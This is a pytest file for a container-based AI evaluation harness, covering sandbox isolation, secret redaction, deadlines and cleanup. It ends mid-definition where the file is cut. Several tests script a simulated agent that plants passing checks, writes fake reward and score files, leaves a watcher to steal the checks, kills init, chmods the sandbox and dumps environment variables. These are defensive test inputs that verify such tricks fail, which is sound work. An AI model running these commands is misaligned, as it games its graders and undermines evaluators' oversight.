"""The `container` target against a real Docker engine: one fresh, isolated container per
attempt, its transcript, diff and workspace in the store, scorers run while it lives, teardown
last, and nothing left on the engine afterwards."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from assay.outcomes import RowKind
from assay.sandbox.hygiene import clean, leftovers
from assay.store import Store
from assay.targets.container.workspace import workspace_diff
from tests.conftest import only_run_id, run_assay, write_jsonl, write_spec
from tests.helpers.sandbox_images import busybox_image, busybox_with, engine, python_image

pytestmark = [pytest.mark.docker]

SECRET = "sk-sandbox-secret-7f3a9c"


@pytest.fixture(scope="module")
def image() -> str:
    return busybox_image(engine())


def _eval(
    tmp_path: Path,
    image: str,
    command: str,
    *,
    rows: list[dict[str, Any]] | None = None,
    scorers: list[dict[str, Any]] | None = None,
    **target: Any,
) -> Path:
    write_jsonl(tmp_path / "data.jsonl", rows or [{"id": "a", "input": "six times seven", "expected": "42"}])
    fixtures = tmp_path / "fixtures"
    (fixtures / "src").mkdir(parents=True, exist_ok=True)
    (fixtures / "readme.txt").write_text("the task\n")
    (fixtures / "src" / "code.txt").write_text("line one\nline two\n")
    checks = tmp_path / "checks"
    checks.mkdir(exist_ok=True)
    (checks / "test.sh").write_text("grep -qx 42 /workspace/answer.txt\n")
    return write_spec(
        tmp_path,
        name="sandboxed",
        dataset={"path": "data.jsonl", "id": "id"},
        target={
            "kind": "container",
            "image": image,
            "fixtures": "fixtures",
            "checks": "checks",
            "command": ["sh", "-c", command],
            **target,
        },
        scorers=scorers or [{"kind": "includes", "value": "42"}],
        fail_on_item_error_rate=1,
    )


def _run(spec: Path, store: Path) -> tuple[dict[str, Any], pl.DataFrame, pl.DataFrame]:
    from assay.flows.run import run_eval  # Prefect: imported by the test that needs it, not at collection
    from assay.orchestrate.run import RunRequest

    summary = asyncio.run(run_eval.fn(RunRequest(spec=str(spec), store=str(store))))
    run_id = summary["run_id"]
    data = Store(store)
    return summary, data.run_items(run_id).sort("item_id"), data.run_scores(run_id).sort("item_id", "scorer")


def _stored(store: Path) -> bytes:
    """Everything the store holds as a reader sees it: every file's and folder's name, every
    file's bytes, and every Parquet file's rows decoded (zstd pages would hide a value from a
    byte search)."""
    out = []
    for path in sorted(store.rglob("*")):
        out.append(path.relative_to(store).as_posix().encode())
        if path.suffix == ".parquet":
            out.append(json.dumps(pl.read_parquet(path).to_dicts(), default=str).encode())
        elif path.is_file():
            out.append(path.read_bytes())
    return b"\n".join(out)


def _artifact(store: Path, run_id: str, relative: str) -> Path:
    return Store(store).artifacts_dir(run_id, "a", 0).parent.parent / relative


def test_an_attempt_keeps_its_transcript_diff_and_workspace_and_is_isolated(
    tmp_path: Path, image: str
) -> None:
    command = (
        'echo "uid=$(id -u)"; grep CapEff /proc/self/status; ls /sys/class/net; '
        "cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max; "
        "touch /rootfs-write 2>&1; "
        "echo two >> src/code.txt; echo 42 > answer.txt; rm readme.txt; echo 42"
    )
    spec = _eval(tmp_path, image, command, limits={"memory": "256m", "pids": 64}, output="file:answer.txt")
    summary, items, scores = _run(spec, tmp_path / "store")
    run_id = summary["run_id"]
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    assert row["output"] == json.dumps("42\n")  # the file the attempt left, not its stdout
    assert scores["score"].to_list() == [1.0]
    # A container attempt is a completed item like any other: its duration is a gauge.
    gauges = Store(tmp_path / "store").run_scores(run_id, kind=RowKind.GAUGE)
    assert gauges["scorer"].to_list() == ["gauge.duration_ms"] and gauges["value"][0] == row["duration_ms"]
    transcript = _artifact(tmp_path / "store", run_id, "a/0/transcript.txt").read_text()
    # Non-root user, no capabilities, no network but loopback, limits applied, read-only root.
    assert "uid=1000" in transcript
    assert "CapEff:\t0000000000000000" in transcript
    assert transcript.split("CapEff:\t0000000000000000\n")[1].startswith("lo\n")
    assert str(256 * 1024 * 1024) in transcript and "\n64\n" in transcript
    assert "Read-only file system" in transcript
    diff = _artifact(tmp_path / "store", run_id, "a/0/diff.patch").read_text()
    assert "+++ b/answer.txt" in diff and "+42" in diff
    assert "--- a/readme.txt" in diff and "+++ /dev/null" in diff
    assert " line two\n+two" in diff
    workspace = _artifact(tmp_path / "store", run_id, "a/0/workspace")
    assert (workspace / "answer.txt").read_text() == "42\n"
    assert not (workspace / "readme.txt").exists()
    assert sorted(row["artifacts"]) == sorted(
        f"run_id={run_id}/a/0/{name}" for name in ("transcript.txt", "stderr.txt", "diff.patch", "workspace")
    )
    assert all((Store(tmp_path / "store").artifacts_root / path).exists() for path in row["artifacts"])
    facts = json.loads(row["sandbox"])
    assert facts["image_id"] == engine().images.get(image).id and facts["exit_code"] == 0
    assert set(facts["stage_ms"]) >= {"provision", "agent", "export"}
    assert row["teardown_error"] is None
    snapshot = json.loads(Store(tmp_path / "store").read_run(run_id)["target_snapshot"])
    assert snapshot["image"]["image_id"] == facts["image_id"]
    assert leftovers(run_id) == []


def test_secrets_go_through_the_env_file_and_are_redacted_everywhere(
    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SANDBOX_TOKEN", SECRET)
    command = (
        'echo "token=$SANDBOX_TOKEN"; echo "$SANDBOX_TOKEN" > leaked.txt; '
        "tr '\\0' ' ' < /proc/1/cmdline; tr '\\0' ' ' < /proc/1/environ; ls -la /tmp; "
        'echo "stderr $SANDBOX_TOKEN" >&2; printf "\\377\\376$SANDBOX_TOKEN" > leaked.bin; echo 42'
    )
    spec = _eval(
        tmp_path, image, command, secrets=["SANDBOX_TOKEN"],
        scorers=[{"kind": "code_exec", "checks": ["cat leaked.txt", "cat leaked.txt >&2; false"]}],
    )  # fmt: skip
    summary, items, scores = _run(spec, tmp_path / "store")
    assert items["outcome"].to_list() == ["completed"]
    transcript = _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
    # The command saw the value (it was redacted on the way into the store), the container's own
    # environment and argv never held it, and the env file was gone before the command ran.
    assert "token=[REDACTED]" in transcript
    assert ".assay-env" not in transcript
    # A scorer that prints the secret from the live container keeps only its redacted output.
    checks = json.loads(scores.to_dicts()[0]["metadata"])["checks"]
    assert checks[0]["stdout"] == "[REDACTED]\n" and checks[1]["stderr"] == "[REDACTED]\n"
    stored = _stored(tmp_path / "store")
    assert SECRET.encode() not in stored and b"[REDACTED]" in stored
    run = summary["run_id"]
    assert _artifact(tmp_path / "store", run, "a/0/workspace/leaked.txt").read_bytes() == b"[REDACTED]\n"
    binary = _artifact(tmp_path / "store", run, "a/0/workspace/leaked.bin").read_bytes()
    assert binary == b"\xff\xfe[REDACTED]"  # not UTF-8: the secret's bytes replaced all the same


def test_a_timeout_is_an_incomplete_attempt_that_keeps_its_transcript(tmp_path: Path, image: str) -> None:
    spec = _eval(tmp_path, image, "echo started; sleep 30", deadlines={"agent": 1})
    started = time.monotonic()
    summary, items, scores = _run(spec, tmp_path / "store")
    assert time.monotonic() - started < 20
    (row,) = items.to_dicts()
    assert row["outcome"] == "failed" and row["failure_kind"] == "timeout"
    assert "incomplete attempt" in row["error"]
    assert "agent stage exceeded its deadline of 1s (target.deadlines.agent)" in row["error"]
    assert "started" in _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
    assert scores.is_empty()
    assert leftovers(summary["run_id"]) == []


def test_a_non_zero_exit_fails_with_its_code_and_redacted_stderr(
    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SANDBOX_TOKEN", SECRET)
    spec = _eval(
        tmp_path, image, 'echo working; echo "bad $SANDBOX_TOKEN" >&2; exit 7', secrets=["SANDBOX_TOKEN"]
    )
    summary, items, _ = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "failed"
    assert row["error"] == "command exited 7: bad [REDACTED]"
    assert json.loads(row["sandbox"])["exit_code"] == 7
    assert "working" in _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
    assert sorted(row["artifacts"]) == [
        f"run_id={summary['run_id']}/a/0/{n}" for n in ("stderr.txt", "transcript.txt")
    ]


@pytest.mark.parametrize("user", [None, "root"])
def test_an_agent_cannot_grade_itself(tmp_path: Path, image: str, user: str | None) -> None:
    """The agent looks for the checks (not there yet), plants a passing check where they will
    go, writes a reward file and a score file — and answers wrong. It gets no credit."""
    command = (
        "cat /assay/checks/test.sh 2>&1 || echo NO-CHECKS-VISIBLE; "
        "mkdir -p /assay/checks 2>&1 && echo 'exit 0' > /assay/checks/test.sh; "
        "echo 1.0 > reward.txt; echo '{\"score\": 1}' > score.json; echo 41 > answer.txt; echo 41"
    )
    spec = _eval(
        tmp_path,
        image,
        command,
        scorers=[{"kind": "code_exec", "checks": ["sh /assay/checks/test.sh"]}],
        **({"user": user} if user else {}),
    )
    summary, items, scores = _run(spec, tmp_path / "store")
    assert items["outcome"].to_list() == ["completed"]
    transcript = _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
    assert "NO-CHECKS-VISIBLE" in transcript
    (score,) = scores.to_dicts()
    assert score["outcome"] == "scored" and score["score"] == 0.0
    assert json.loads(score["metadata"])["checks"][0]["exit_code"] != 0


def test_the_same_checks_pass_an_honest_agent_while_its_container_lives(tmp_path: Path, image: str) -> None:
    spec = _eval(
        tmp_path,
        image,
        "echo 42 > answer.txt; echo 42",
        scorers=[
            {"kind": "code_exec", "checks": ["sh /assay/checks/test.sh", "test -f src/code.txt", "false"]},
            {"kind": "code_exec", "name": "all_or_nothing", "pass_fail": True, "checks": ["true", "false"]},
        ],
    )
    _, _, scores = _run(spec, tmp_path / "store")
    by_name = {r["scorer"]: r for r in scores.to_dicts()}
    assert by_name["code_exec"]["score"] == pytest.approx(2 / 3)
    assert by_name["code_exec"]["explanation"] == "2/3 checks passed"
    assert by_name["all_or_nothing"]["score"] == 0.0


def test_stage_deadlines_name_their_stage_and_never_leave_containers(tmp_path: Path, image: str) -> None:
    spec = _eval(
        tmp_path,
        image,
        "echo 42 > answer.txt; echo 42",
        scorers=[{"kind": "code_exec", "checks": ["sleep 20"]}, {"kind": "includes", "value": "42"}],
        deadlines={"scoring": 1, "cleanup": 0.001},
    )
    summary, items, scores = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    # The result stands; the teardown's failure is recorded beside it.
    assert row["outcome"] == "completed"
    assert row["teardown_error"] == "cleanup stage exceeded its deadline of 0.001s (target.deadlines.cleanup)"
    assert summary["n_teardown_errors"] == 1 and summary["teardown_errors"] == [row["teardown_error"]]
    by_name = {score["scorer"]: score for score in scores.to_dicts()}
    # The deadline fails the scorer it cut off; the one that had finished keeps its score.
    assert by_name["code_exec"]["outcome"] == "failed"
    assert (
        by_name["code_exec"]["error"]
        == "scoring stage exceeded its deadline of 1s (target.deadlines.scoring)"
    )
    assert (by_name["includes"]["outcome"], by_name["includes"]["score"]) == ("scored", 1.0)
    assert leftovers(summary["run_id"]) == []  # the run's end removes what the attempt could not

    spec = _eval(tmp_path, image, "echo 42", deadlines={"provision": 0.001})
    summary, items, _ = _run(spec, tmp_path / "store2")
    (row,) = items.to_dicts()
    assert row["outcome"] == "failed" and row["failure_kind"] == "timeout"
    assert row["error"] == "provision stage exceeded its deadline of 0.001s (target.deadlines.provision)"
    assert leftovers(summary["run_id"]) == []


def test_code_exec_in_a_fresh_sandbox_checks_generated_code(tmp_path: Path, image: str) -> None:
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "check.sh").write_text('[ "$(sh solution.sh)" = "$1" ]\n')
    write_jsonl(tmp_path / "data.jsonl", [{"id": "ok", "input": "echo 4"}, {"id": "bad", "input": "echo 5"}])
    (tmp_path / "gen.py").write_text("def generate(text):\n    return text\n")
    spec = write_spec(
        tmp_path,
        name="fresh",
        dataset={"path": "data.jsonl", "id": "id"},
        target={"kind": "python", "function": "gen:generate"},
        scorers=[
            {
                "kind": "code_exec",
                "where": "fresh",
                "image": image,
                "files": "tests",
                "output_file": "solution.sh",
                "checks": ["sh check.sh 4", "test -f check.sh"],
            },
            {
                "kind": "code_exec",
                "name": "hangs",
                "where": "fresh",
                "image": image,
                "timeout": 0.5,
                "checks": ["sleep 10"],
            },
        ],
        fail_on_item_error_rate=1,
    )
    summary, _, scores = _run(spec, tmp_path / "store")
    by_key = {(r["item_id"], r["scorer"]): r for r in scores.to_dicts()}
    assert by_key[("ok", "code_exec")]["score"] == 1.0
    assert by_key[("bad", "code_exec")]["score"] == 0.5
    hang = by_key[("ok", "hangs")]
    assert hang["outcome"] == "failed" and "ran past 0.5s" in hang["error"]
    assert json.loads(hang["metadata"])["checks"][0]["timed_out"] is True
    assert leftovers(summary["run_id"]) == []


def test_preflight_refuses_a_missing_image_and_secret_before_anything_starts(tmp_path: Path) -> None:
    spec = _eval(tmp_path, "assay-test/no-such-image:1", "true", secrets=["ASSAY_UNSET_SECRET"])
    result = run_assay("run", str(spec), "--store", str(tmp_path / "store"))
    assert result.returncode == 2, result.stderr
    assert "target.image:" in result.stderr and "no-such-image" in result.stderr
    assert "target.secrets: environment variable 'ASSAY_UNSET_SECRET' is not set" in result.stderr
    assert not (tmp_path / "store" / "runs").exists()


def test_a_killed_run_leaves_containers_that_assay_clean_removes(tmp_path: Path, image: str) -> None:
    rows = [{"id": f"i{n}", "input": "x"} for n in range(3)]
    spec = _eval(tmp_path, image, "sleep 60", rows=rows)
    spec.write_text(spec.read_text() + "concurrency: 3\n")
    store = tmp_path / "store"
    process = subprocess.Popen(
        [sys.executable, "-m", "assay.cli", "run", str(spec), "--store", str(store), "--quiet"],
        start_new_session=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
    )
    try:
        deadline = time.monotonic() + 60
        run_id = None
        while time.monotonic() < deadline:
            if (store / "runs").exists():
                run_id = only_run_id(store)
                # Three attempts running (and a spare started for the next one, maybe).
                if len([x for x in leftovers(run_id) if x.startswith("container")]) >= 3:
                    break
            time.sleep(0.2)
        assert run_id is not None
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
    try:
        left = len(leftovers(run_id))
        assert left >= 3
        result = run_assay("clean", run_id, "--store", str(store))
        assert result.returncode == 0, result.stderr
        assert f"removed {left} containers" in result.stdout
        assert leftovers(run_id) == []
    finally:
        clean(run_id)  # a failed assertion above must not leave containers running


def test_workspace_diff_names_binary_files_and_missing_newlines() -> None:
    diff = workspace_diff({"a.bin": b"\xff\x00", "t.txt": b"x"}, {"a.bin": b"\xfe", "t.txt": b"y"})
    assert diff == (
        "Binary files a/a.bin and b/a.bin differ\n"
        "--- a/t.txt\n+++ b/t.txt\n@@ -1 +1 @@\n"
        "-x\n\\ No newline at end of file\n"
        "+y\n\\ No newline at end of file\n"
    )
    grown = workspace_diff({"t.txt": b"a\nx"}, {"t.txt": b"a\nx\ny\n"})
    assert grown.endswith("-x\n\\ No newline at end of file\n+x\n+y\n")


def test_artifact_folders_of_odd_item_ids_stay_inside_the_run(tmp_path: Path) -> None:
    store = Store(tmp_path)
    partition = store.artifacts_dir("r1", "x", 0).parent.parent
    folders = {item_id: store.artifacts_dir("r1", item_id, 0) for item_id in ("", ".", "..", "0", "a/b", "%")}
    assert len(set(folders.values())) == len(folders)
    for folder in folders.values():
        assert folder.resolve().parent.parent == partition.resolve()


def test_containers_alive_at_once_follow_concurrency(tmp_path: Path, image: str) -> None:
    rows = [{"id": f"i{n}", "input": "x"} for n in range(4)]
    spec = _eval(tmp_path, image, "sleep 1; echo 42", rows=rows)
    spec.write_text(spec.read_text() + "concurrency: 2\n")
    _, items, _ = _run(spec, tmp_path / "store")
    spans = [
        (start.timestamp(), start.timestamp() + ms / 1000)
        for start, ms in zip(items["started_at"].to_list(), items["duration_ms"].to_list(), strict=True)
    ]
    most = max(sum(1 for a, b in spans if a <= t < b) for t, _ in spans)
    assert most == 2


def test_a_rescore_reads_the_exported_workspace_without_any_container(tmp_path: Path, image: str) -> None:
    (tmp_path / "graders.py").write_text(
        "def answer_file(workspace, sandbox):\n"
        "    assert sandbox is None\n"
        "    return (workspace / 'answer.txt').read_text().strip() == '42'\n"
    )
    spec = _eval(tmp_path, image, "echo 42 > answer.txt; echo 42")
    summary, _, _ = _run(spec, tmp_path / "store")
    (tmp_path / "rescore.yaml").write_text(
        "scorers:\n  - {kind: user_code, function: 'graders:answer_file'}\n"
    )
    result = run_assay(
        "rescore",
        summary["run_id"],
        "--store",
        str(tmp_path / "store"),
        "--json",
        "--spec",
        str(tmp_path / "rescore.yaml"),
    )
    assert result.returncode == 0, result.stderr
    rescored = json.loads(result.stdout)
    scores = Store(tmp_path / "store").run_scores(rescored["run_id"])
    assert scores["score"].to_list() == [1.0], scores["error"].to_list()
    assert leftovers(rescored["run_id"]) == []


def test_a_resumed_run_uses_the_image_id_it_started_with(tmp_path: Path, image: str) -> None:
    from assay.spec import ContainerTarget
    from assay.spec.dataset import Item
    from assay.targets.container.preflight import prepare_container

    target = ContainerTarget(kind="container", image="assay-test/moving:latest", command=["true"])
    stored = {
        "image": {
            "tag": target.image,
            "image_id": "sha256:" + "1" * 64,
            "user": "agent",
            "uid": 1000,
            "gid": 1000,
        }
    }
    item = Item(item_id="a", item_index=0, input="x", expected=None)
    # No such tag on the engine at all: the stored id is used, the engine is not asked.
    assert prepare_container(target, [item], tmp_path, stored) == stored


_FAKE_CLAUDE = b"""#!/bin/sh
# A stand-in for Claude Code (the real CLI cannot run offline): says its version, needs its key,
# leaves work in the workspace, and replays a recorded stream-json transcript.
[ "$1" = "--version" ] && { echo "1.0.99-fake (Claude Code)"; exit 0; }
[ -n "$ANTHROPIC_API_KEY" ] || { echo "no ANTHROPIC_API_KEY" >&2; exit 9; }
echo "$*" > argv.txt
echo "using $ANTHROPIC_API_KEY" >&2
echo 42 > answer.txt
cat /opt/recorded/stream.jsonl
"""


def test_the_claude_code_adapter_runs_headless_and_its_stream_is_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = (Path(__file__).parents[1] / "data" / "agent_streams" / "claude_success.jsonl").read_bytes()
    image = busybox_with(
        "fake-claude",
        {"usr/local/bin/claude": (_FAKE_CLAUDE, 0o755), "opt/recorded/stream.jsonl": (stream, 0o644)},
    )
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    (tmp_path / "graders.py").write_text(
        "def steps(trajectory):\n    return {'score': 1.0, 'metadata': {'steps': len(trajectory or [])}}\n"
    )
    spec = _eval(
        tmp_path,
        image,
        "unused",
        scorers=[
            {"kind": "user_code", "function": "graders:steps"},
            {"kind": "code_exec", "checks": ["sh /assay/checks/test.sh"]},
        ],
        output="report",
    )
    text = spec.read_text().replace(
        "  command:\n  - sh\n  - -c\n  - unused\n",
        "  agent: {adapter: claude-code, model: claude-sonnet-4-20250514}\n",
    )
    spec.write_text(text)
    summary, items, scores = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    assert json.loads(row["output"]).startswith("Fixed the off-by-one")
    assert row["model"] == "claude-sonnet-4-20250514"
    assert row["caller_cost_usd"] == pytest.approx(0.0712345)
    # The agent's own token counts are caller-reported: kept apart from Assay's measured columns.
    assert (row["tokens_input"], row["tokens_output"]) == (None, None)
    assert json.loads(row["caller_reserved"]) == {
        "tokens": {"input": 49409, "output": 612, "cached": 41250, "cache_write": 8123}
    }
    assert json.loads(row["caller_metadata"])["turns"] == 4
    assert row["cost_completeness"] != "complete"  # Assay did not measure the agent's calls itself
    by_name = {r["scorer"]: r for r in scores.to_dicts()}
    assert json.loads(by_name["user_code"]["metadata"]) == {"steps": 8}
    gauges = {
        r["scorer"]: r["value"]
        for r in Store(tmp_path / "store").run_scores(summary["run_id"], kind=RowKind.GAUGE).to_dicts()
    }
    assert (gauges["gauge.steps"], gauges["gauge.tool_calls"]) == (
        8,
        3,
    ) and "gauge.tokens_input" not in gauges
    assert by_name["code_exec"]["score"] == 1.0
    argv = _artifact(tmp_path / "store", summary["run_id"], "a/0/workspace/argv.txt").read_text()
    assert "--output-format stream-json" in argv and "claude-sonnet-4-20250514" in argv
    stored = _stored(tmp_path / "store")
    assert SECRET.encode() not in stored and b"using [REDACTED]" in stored
    # Preflight asked the CLI its version in the image, and the run records it.
    snapshot = json.loads(Store(tmp_path / "store").read_run(summary["run_id"])["target_snapshot"])
    assert snapshot["agent_version"] == "1.0.99-fake (Claude Code)"


def test_an_agent_cli_that_cannot_say_its_version_is_refused_before_anything_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    image = busybox_with("no-claude", {"usr/local/bin/other": (b"#!/bin/sh\nexit 0\n", 0o755)})
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    spec = _eval(tmp_path, image, "unused")
    spec.write_text(
        spec.read_text().replace(
            "  command:\n  - sh\n  - -c\n  - unused\n",
            "  agent: {adapter: claude-code, model: claude-sonnet-4-20250514}\n",
        )
    )
    result = run_assay("run", str(spec), "--store", str(tmp_path / "store"))
    assert result.returncode == 2, result.stderr
    assert f"target.agent: `claude --version` in image {image!r} could not run" in result.stderr
    assert '"claude": executable file not found' in result.stderr
    assert not (tmp_path / "store" / "runs").exists(), "nothing written"


def test_an_adapters_provider_endpoint_joins_the_egress_allowlist() -> None:
    from assay.spec import ContainerTarget
    from assay.targets.container.preflight import egress_allowlist

    def target(**fields: Any) -> ContainerTarget:
        return ContainerTarget(kind="container", image="x", egress_proxy_image="py", **fields)

    agent = {"adapter": "claude-code", "model": "claude-sonnet-4-20250514"}
    assert egress_allowlist(target(agent=agent, egress=["pypi.org"])) == ["pypi.org", "api.anthropic.com"]
    codex = {"adapter": "codex", "model": "gpt-5.5"}
    assert egress_allowlist(target(agent=codex, egress=["api.openai.com"])) == ["api.openai.com"]
    # Another endpoint replaces the provider's: its host and port (the scheme's when none).
    elsewhere = {**codex, "base_url": "http://10.0.0.5:8000/v1"}
    assert egress_allowlist(target(agent=elsewhere, egress=["pypi.org"])) == ["pypi.org", "10.0.0.5:8000"]
    gateway = {**agent, "base_url": "https://llm.example.com"}
    assert egress_allowlist(target(agent=gateway, egress=["pypi.org"])) == ["pypi.org", "llm.example.com:443"]
    assert egress_allowlist(target(agent=agent)) == [], "no egress set: no proxy to widen"
    assert egress_allowlist(target(command=["true"], egress=["pypi.org"])) == ["pypi.org"]


def test_agent_preflight_refuses_moving_models_and_missing_keys(tmp_path: Path, image: str) -> None:
    spec = _eval(tmp_path, image, "unused")
    spec.write_text(
        spec.read_text().replace(
            "  command:\n  - sh\n  - -c\n  - unused\n", "  agent: {adapter: claude-code, model: sonnet}\n"
        )
    )
    env = {k: v for k, v in os.environ.items() if k != "ANTHROPIC_API_KEY"}
    result = run_assay("run", str(spec), "--store", str(tmp_path / "store"), env=env)
    assert result.returncode == 2, result.stderr
    assert "target.agent.model" in result.stderr and "sonnet" in result.stderr
    assert "ANTHROPIC_API_KEY" in result.stderr
    assert not (tmp_path / "store" / "runs").exists()


def test_the_report_links_each_item_to_what_its_attempt_kept(tmp_path: Path, image: str) -> None:
    import html as html_module
    import re
    from urllib.parse import unquote

    from assay.report import write_report

    spec = _eval(tmp_path, image, "echo 42 > answer.txt; echo 42")
    summary, _, _ = _run(spec, tmp_path / "store")
    for out in (None, tmp_path / "elsewhere" / "deep" / "report.html"):
        page = write_report(Store(tmp_path / "store"), summary["run_id"], out=out)
        (payload,) = re.findall(
            r'<script type="application/json" id="items-data">(.*?)</script>', page.read_text(), re.DOTALL
        )
        data = json.loads(html_module.unescape(payload))
        (row,) = data["rows"]
        assert sorted(Path(f).name for f in row["files"]) == ["diff.patch", "stderr.txt", "transcript.txt"]
        # What the page's links resolve to, from where the page is: the kept files.
        for path in row["files"]:
            target = (page.parent / data["artifacts"] / unquote(path)).resolve()
            assert target.is_file(), target


@pytest.mark.browser
def test_the_reports_file_links_work_in_chromium(tmp_path: Path, image: str) -> None:
    from urllib.parse import unquote, urlparse

    from playwright.sync_api import sync_playwright

    from assay.report import write_report
    from tests.report.test_report import CHROMIUM, CHROMIUM_FLAGS, Opened

    spec = _eval(tmp_path, image, "echo 42 > answer.txt; echo 42")
    summary, _, _ = _run(spec, tmp_path / "store")
    page_path = write_report(Store(tmp_path / "store"), summary["run_id"])
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_FLAGS
        )
        try:
            opened = Opened(browser, page_path)
            hrefs = opened.page.eval_on_selector_all("#items .files a", "links => links.map(a => a.href)")
            assert opened.errors == []
            opened.close()
        finally:
            browser.close()
    assert len(hrefs) == 3
    for href in hrefs:
        assert Path(unquote(urlparse(href).path)).is_file(), href


def test_a_judges_spend_reaching_the_budget_starts_no_more_sandboxes(
    tmp_path: Path, image: str, mock
) -> None:
    mock.configure(answers={"*": '{"score": 10, "explanation": "ok"}'})
    rows = [{"id": f"i{n}", "input": "x"} for n in range(4)]
    judge = {
        "kind": "llm_judge", "name": "judge", "base_url": mock.base_url, "model": "mock-judge",
        "rubric": "Grade {output}.", "scale": 10,
    }  # fmt: skip
    spec = _eval(tmp_path, image, "echo 42", rows=rows, scorers=[judge])
    spec.write_text(
        spec.read_text()
        + "concurrency: 1\nbudget: $0.000001\nprices: {mock-judge: {input: 10.0, output: 30.0}}\n"
    )
    summary, items, _ = _run(spec, tmp_path / "store")
    # The first attempt's judge closes the budget: the others are never given a container.
    assert items.sort("item_index")["outcome"].to_list() == ["completed"] + ["budget_skipped"] * 3
    assert items["sandbox"].null_count() == 3
    assert leftovers(summary["run_id"]) == []


def test_preflight_refuses_bad_egress_a_missing_proxy_image_and_multiline_secrets(
    tmp_path: Path, image: str
) -> None:
    spec = _eval(
        tmp_path, image, "true", secrets=["ASSAY_PEM"], egress=["api.test:99999", "ok.test"],
        egress_proxy_image="assay-test/no-such-proxy:1",
    )  # fmt: skip
    result = run_assay(
        "run", str(spec), "--store", str(tmp_path / "store"),
        env={**os.environ, "ASSAY_PEM": "-----BEGIN KEY-----\nabc\n-----END KEY-----"},
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "target.egress:" in result.stderr and "99999" in result.stderr
    assert "target.egress_proxy_image:" in result.stderr and "no-such-proxy" in result.stderr
    assert "target.secrets: ASSAY_PEM's value holds a line break or NUL" in result.stderr
    assert "BEGIN KEY" not in result.stderr
    assert not (tmp_path / "store" / "runs").exists()


def test_what_the_agent_left_running_is_stopped_before_the_checks_go_in(tmp_path: Path, image: str) -> None:
    """The agent answers wrong and leaves a process behind that waits for the checks to appear,
    then rewrites the answer under them. It is killed before the checks are copied in."""
    watcher = (
        "while [ ! -e /assay/checks/test.sh ]; do sleep 0.05; done; "
        "cp /assay/checks/test.sh stolen.sh; echo 42 > answer.txt"
    )
    command = f"echo 41 > answer.txt; sh -c '{watcher}' >/dev/null 2>&1 & echo 41"
    spec = _eval(
        tmp_path, image, command,
        scorers=[{"kind": "code_exec", "checks": ["sleep 0.5; sh /assay/checks/test.sh", "test ! -e stolen.sh"]}],
    )  # fmt: skip
    _, items, scores = _run(spec, tmp_path / "store")
    assert items["outcome"].to_list() == ["completed"]
    (score,) = scores.to_dicts()
    checks = json.loads(score["metadata"])["checks"]
    assert [c["exit_code"] for c in checks] == [1, 0]  # answer still 41; the checks never read
    assert score["score"] == 0.5


def test_a_fixture_changed_under_a_run_makes_its_resume_refuse(tmp_path: Path, image: str) -> None:
    spec = _eval(tmp_path, image, "echo 42")
    summary, _, _ = _run(spec, tmp_path / "store")
    run_id = summary["run_id"]
    assert Store(tmp_path / "store").read_run(run_id)["fixtures_hash"]
    same = run_assay("resume", run_id, "--store", str(tmp_path / "store"))
    assert same.returncode == 0, same.stderr
    (tmp_path / "fixtures" / "src" / "code.txt").write_text("changed\n")
    changed = run_assay("resume", run_id, "--store", str(tmp_path / "store"))
    assert changed.returncode == 2
    assert "its identity changed since it started: the fixture files' content" in changed.stderr


_TRICKS = {
    # The container's init signalled (it used to run as the attempt's user and exit on TERM).
    "kill-init": "kill -TERM 1 2>&1; kill -KILL 1 2>&1; kill -INT 1 2>&1",
    # /assay made unwritable (root owned it): the checks could not be copied in.
    "chmod-assay": "chmod 0555 /assay 2>&1",
    # The agent's own files made unreadable: the export and the checks' working folder failed.
    "chmod-workspace": "chmod 000 answer.txt /workspace",
}


@pytest.mark.parametrize("user", [None, "root"])
@pytest.mark.parametrize("trick", sorted(_TRICKS))
def test_breaking_the_sandbox_does_not_escape_a_wrong_answers_zero(
    tmp_path: Path, image: str, trick: str, user: str | None
) -> None:
    """An agent (as non-root and as root) answers wrong, then tries to break its sandbox so that
    the attempt or its scorer fails (and drops out of the score means): it still scores 0."""
    command = f"echo 41 > answer.txt; {_TRICKS[trick]}; echo 41"
    spec = _eval(
        tmp_path, image, command,
        scorers=[{"kind": "code_exec", "checks": ["sh /assay/checks/test.sh", "test -e answer.txt"]}],
        **({"user": user} if user else {}),
    )  # fmt: skip
    summary, items, scores = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    (score,) = scores.to_dicts()
    assert (score["outcome"], score["score"]) == ("scored", 0.5), score["error"]
    transcript = _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
    if trick != "chmod-workspace":
        assert "Operation not permitted" in transcript
    # Out of the agent's reach: the checks ran in the attempt's own container.
    assert "verifier" not in json.loads(row["sandbox"])
    assert "verifier" not in json.loads(score["metadata"])
    assert leftovers(summary["run_id"]) == []


@pytest.mark.parametrize(("user", "answer"), [(None, "41"), ("root", "41"), (None, "42")])
def test_checks_run_in_a_fresh_verifier_when_the_agent_damaged_its_container(
